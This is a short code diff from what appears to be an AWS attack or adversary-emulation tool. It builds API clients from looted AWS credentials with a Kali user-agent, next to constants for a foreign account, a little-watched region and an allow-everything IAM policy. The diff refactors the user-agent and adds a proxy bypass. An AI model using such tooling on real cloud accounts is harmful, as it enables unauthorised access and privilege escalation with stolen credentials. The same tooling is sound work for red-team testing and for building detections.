@@ -14,6 +14,7 @@ if TYPE_CHECKING:
 
 FOREIGN_ACCOUNT = "999988887777"
 FAR_AWAY = "ap-southeast-2"  # a region that nobody here works in
+_AGENT = "aws-cli/2.15.30 Python/3.11.8 Linux/5.15 exe/x86_64.kali.2024"
 _EVERYTHING = json.dumps(
     {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
 )
@@ -87,5 +88,5 @@ def _client(
         aws_access_key_id=own.get("AccessKeyId", loot.credentials["AWS_ACCESS_KEY_ID"]),
         aws_secret_access_key=own.get("SecretAccessKey", loot.credentials["AWS_SECRET_ACCESS_KEY"]),
         aws_session_token=own.get("SessionToken"),
-        config=Config(user_agent="aws-cli/2.15.30 Python/3.11.8 Linux/5.15 exe/x86_64.kali.2024"),
+        config=Config(user_agent=_AGENT, proxies={}),  # none of whoever is at the keyboard
     )
